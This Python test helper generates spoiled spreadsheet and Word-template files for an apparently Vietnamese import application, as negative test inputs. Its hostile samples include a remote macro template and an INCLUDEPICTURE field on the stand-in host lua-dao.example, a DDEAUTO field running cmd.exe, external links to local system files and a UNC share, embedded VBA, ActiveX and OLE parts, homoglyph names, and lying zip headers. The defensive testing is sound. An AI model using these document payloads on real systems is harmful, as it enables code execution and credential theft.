"""The second wave of bad input files (issue 12), built on the fly like ``bad_inputs``.

A valid file of an import is spoiled in its key cell (or a number cell, or
its identity sheet) by rewriting the sheet's XML — what openpyxl cannot write:
formula cells whose saved result is an error, cells in the last column —
or through openpyxl for text: names that display blank, names made of
look-alike letters of other scripts. Word templates are spoiled part by part
(external relationships, macros, ActiveX, fetching fields, lying zip headers).
"""
from __future__ import annotations

import io
import re
import warnings
import zipfile
from pathlib import Path
from typing import Callable

import openpyxl
from openpyxl.utils import get_column_letter

from bad_inputs import KeyCell, _rezip, find_key_cell

# --- xlsx: one cell rewritten in the sheet's XML -------------------------------------------


def _sheet_part(path: Path, title: str) -> str:
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return f"xl/worksheets/sheet{wb.sheetnames.index(title) + 1}.xml"  # as openpyxl saves them
    finally:
        wb.close()


def set_cell_xml(path: Path, title: str, ref: str, cell_xml: str) -> None:
    """Replace cell ``ref`` of sheet ``title`` by ``cell_xml`` (added to its row if missing)."""
    part = _sheet_part(path, title)
    row = re.match(r"[A-Z]+([0-9]+)", ref).group(1)

    def change(name: str, content: bytes) -> bytes | None:
        if name != part:
            return None
        text = content.decode("utf-8")
        cell = re.compile(rf'<c r="{ref}"(?:[^>]*?/>|[^>]*?>.*?</c>)')
        if cell.search(text):
            return cell.sub(lambda _: cell_xml, text, count=1).encode("utf-8")
        # a cell past the others goes last in its row (cells are in column order)
        return re.sub(rf'(<row r="{row}"[^>]*>.*?)(</row>)', lambda m: m.group(1) + cell_xml + m.group(2),
                      text, count=1, flags=re.S).encode("utf-8")

    path.write_bytes(_rezip(path.read_bytes(), change))


def _error_cell(code: str, kind: str = "e") -> Callable[[Path, KeyCell], None]:
    def spoil(path: Path, key: KeyCell) -> None:
        ref = f"{get_column_letter(key.column)}{key.first_row}"
        set_cell_xml(path, key.sheet, ref, f'<c r="{ref}" t="{kind}"><f>1/0</f><v>{code}</v></c>')
    return spoil


def _raw_number(raw: str) -> Callable[[Path, KeyCell], None]:
    def spoil(path: Path, key: KeyCell) -> None:
        ref = f"{get_column_letter(key.column)}{key.first_row}"
        set_cell_xml(path, key.sheet, ref, f'<c r="{ref}" t="n"><v>{raw}</v></c>')
    return spoil


def _far_cell(column: int) -> Callable[[Path, KeyCell], None]:
    """A value far to the right of the key cell's row: the row is that wide."""
    def spoil(path: Path, key: KeyCell) -> None:
        ref = f"{get_column_letter(column)}{key.first_row}"
        set_cell_xml(path, key.sheet, ref, f'<c r="{ref}" t="inlineStr"><is><t>thừa</t></is></c>')
    return spoil


def _many_merges(count: int) -> Callable[[Path, KeyCell], None]:
    """``count`` merged ranges declared after the cells (a few hundred bytes zipped)."""
    def spoil(path: Path, key: KeyCell) -> None:
        part = _sheet_part(path, key.sheet)
        ranges = "".join(f'<mergeCell ref="Z{r}:AA{r}"/>' for r in range(1000, 1000 + count))

        def change(name: str, content: bytes) -> bytes | None:
            if name != part:
                return None
            text = re.sub(r"<mergeCells\b.*?</mergeCells>", "", content.decode("utf-8"), flags=re.S)
            return text.replace("</sheetData>", f'</sheetData><mergeCells count="{count}">{ranges}</mergeCells>',
                                1).encode("utf-8")

        path.write_bytes(_rezip(path.read_bytes(), change))
    return spoil


def _text(change: Callable[[object], object]) -> Callable[[Path, KeyCell], None]:
    def spoil(path: Path, key: KeyCell) -> None:
        wb = openpyxl.load_workbook(path)
        c = wb[key.sheet].cell(key.first_row, key.column)
        c.value = change(c.value)
        wb.save(path)
    return spoil


# Letters that look like Latin ones (Cyrillic, Greek, full-width forms).
CYRILLIC = str.maketrans("aceopxyATHMBEKOPCX", "асеорхуАТНМВЕКОРСХ")
GREEK = str.maketrans("oAvTHKMNOPXYBEZI", "οΑνΤΗΚΜΝΟΡΧΥΒΕΖΙ")


def look_alike(text: object, table: dict) -> str:
    """``text`` with its first letter that has a look-alike swapped for it."""
    text = str(text)
    for i, ch in enumerate(text):
        if ch.translate(table) != ch:
            return text[:i] + ch.translate(table) + text[i + 1:]
    raise AssertionError(f"no look-alike letter in {text!r}")


def _fullwidth(text: object) -> str:
    return "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in str(text))


ERRORS = ("#DIV/0!", "#N/A", "#REF!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!")
KEY_MUTATIONS: dict[str, Callable[[Path, KeyCell], None]] = {
    **{f"loi-{code.strip('#!?/').replace('/', '').lower()}": _error_cell(code) for code in ERRORS},
    "loi-ket-qua-chu": _error_cell("#DIV/0!", kind="str"),  # an error given as a text result
    "ten-hangul-filler": _text(lambda v: "\u3164\u3164"),
    "ten-gach-mem-noi-tu": _text(lambda v: "\u00ad\u2060\u180e\ufe0f"),
    "ten-kirin": _text(lambda v: look_alike(v, CYRILLIC)),
    "ten-hy-lap": _text(lambda v: look_alike(v, GREEK)),
    "ten-toan-khuon": _text(_fullwidth),
    "cot-xfd": _far_cell(16384),
    "cot-201": _far_cell(201),
    "o-gop-200000": _many_merges(200_000),
}
NUMBER_MUTATIONS: dict[str, Callable[[Path, KeyCell], None]] = {
    "so-1e30": _raw_number("1E+30"),
    "so-vo-cuc": _raw_number("1E+400"),
    "so-400-chu-so": _text(lambda v: "9" * 400),
}


def spoil(valid: Path, out: Path, headers: tuple[str, ...], mutation: Callable[[Path, KeyCell], None]) -> Path:
    out.write_bytes(valid.read_bytes())
    mutation(out, find_key_cell(out, headers))
    return out


# --- the widest hostile file ----------------------------------------------------------------


def wide_rows_xlsx(path: Path, header: list[str], rows: int, column: int) -> Path:
    """A header row, then ``rows`` rows each holding one cell in ``column``
    (16384 is XFD, the last): about 1 MB zipped for 90,000 rows."""
    letter = get_column_letter(column)
    heads = "".join(f'<c r="{get_column_letter(i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
                    for i, h in enumerate(header, start=1))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                   '2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                   'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                   'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
                   'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                   '</Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml",
                   '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
                   'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                   'relationships"><sheets><sheet name="Danh sách" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        f'spreadsheetml/2006/main"><dimension ref="A1:{letter}{rows + 1}"/><sheetData>'
                        f'<row r="1">{heads}</row>'.encode("utf-8"))
            for r in range(2, rows + 2):
                sheet.write(f'<row r="{r}"><c r="{letter}{r}"><v>{r}</v></c></row>'.encode())
            sheet.write(b"</sheetData></worksheet>")
    return path


# --- Word templates ------------------------------------------------------------------------

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"


def _add_relationship(xml: bytes, rel: str) -> bytes:
    return xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _add_override(xml: bytes, part: str, content_type: str) -> bytes:
    return xml.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode())


def _spoil_docx(data: bytes, rels: str = "", part: tuple[str, str] | None = None, body: str = "",
                main_type: str = "", settings_rel: str = "") -> bytes:
    """A template with a relationship of the document (``rels``) or of its
    settings (``settings_rel``), an extra part (name, content type), a
    paragraph of raw XML in the body, or another main content type."""
    extra: dict[str, bytes] = {}

    def change(name: str, content: bytes) -> bytes | None:
        if name == "word/_rels/document.xml.rels" and rels:
            return _add_relationship(content, rels)
        if name == "[Content_Types].xml":
            new = content
            if part:
                new = _add_override(new, part[0], part[1])
            if main_type:
                new = re.sub(rb'(PartName="/word/document.xml" ContentType=")[^"]+', rb"\g<1>" + main_type.encode(),
                             new)
            return new
        if name == "word/document.xml" and body:
            return content.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)
        return None

    if part:
        extra[part[0]] = b"\xd0\xcf\x11\xe0" + b"\x00" * 512 if part[0].endswith(".bin") else b"<x/>"
    if settings_rel:
        extra["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{settings_rel}</Relationships>').encode()
    return _rezip(data, change, extra)


def _field(code: str) -> str:
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} '
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _lying_sizes(data: bytes) -> bytes:
    """The document part's declared uncompressed size, in both headers, says 100 bytes."""
    raw = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo("word/document.xml")
    raw[info.header_offset + 22:info.header_offset + 26] = (100).to_bytes(4, "little")
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        name_len = int.from_bytes(raw[central + 28:central + 30], "little")
        if raw[central + 46:central + 46 + name_len] == b"word/document.xml":
            raw[central + 24:central + 28] = (100).to_bytes(4, "little")
        central = raw.find(b"PK\x01\x02", central + 4)
    return bytes(raw)


def _duplicate_part(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        with warnings.catch_warnings():  # the duplicate is the point
            warnings.simplefilter("ignore")
            dst.writestr("word/document.xml", b"<w:document/>")
    return out.getvalue()


def hostile_templates(valid: bytes) -> dict[str, bytes]:
    """Each spoiled template by name (the valid one is the app's own default)."""
    return {
        "mau-dinh-kem-tu-xa": _spoil_docx(valid, settings_rel=(
            f'<Relationship Id="rIdT" Type="{_REL}attachedTemplate" Target="http://lua-dao.example/mau.dotm" '
            'TargetMode="External"/>')),
        "anh-lien-ket-tep-ngoai": _spoil_docx(valid, rels=(
            f'<Relationship Id="rIdImg" Type="{_REL}image" Target="file:///C:/Windows/win.ini" '
            'TargetMode="External"/>')),
        "anh-unc-khong-khai-ngoai": _spoil_docx(valid, rels=(
            f'<Relationship Id="rIdImg" Type="{_REL}image" Target="\\\\may-chu\\chia-se\\anh.png"/>')),
        "lien-ket-web": _spoil_docx(valid, rels=(
            f'<Relationship Id="rIdL" Type="{_REL}hyperlink" Target="http://lua-dao.example/" '
            'TargetMode="External"/>')),
        "vba-project": _spoil_docx(valid, rels=f'<Relationship Id="rIdV" Type="{_MS_REL}vbaProject" '
                                               'Target="vbaProject.bin"/>',
                                   part=("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")),
        "kieu-docm": _spoil_docx(valid, main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "kieu-dotm": _spoil_docx(valid, main_type="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        "activex": _spoil_docx(valid, rels=f'<Relationship Id="rIdX" Type="{_REL}control" '
                                           'Target="activeX/activeX1.xml"/>',
                               part=("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
        "doi-tuong-ole": _spoil_docx(valid, rels=f'<Relationship Id="rIdO" Type="{_REL}oleObject" '
                                                 'Target="embeddings/oleObject1.bin"/>',
                                     part=("word/embeddings/oleObject1.bin",
                                           "application/vnd.openxmlformats-officedocument.oleObject")),
        "kieu-la": _spoil_docx(valid, part=("word/khac.xml", "application/x-msdownload")),
        "truong-includepicture": _spoil_docx(valid, body=_field('INCLUDEPICTURE "http://lua-dao.example/a.png" \\d')),
        "truong-ddeauto": _spoil_docx(valid, body=_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        "zip-khai-sai-kich-thuoc": _lying_sizes(valid),
        "zip-hai-phan-trung-ten": _duplicate_part(valid),
    }
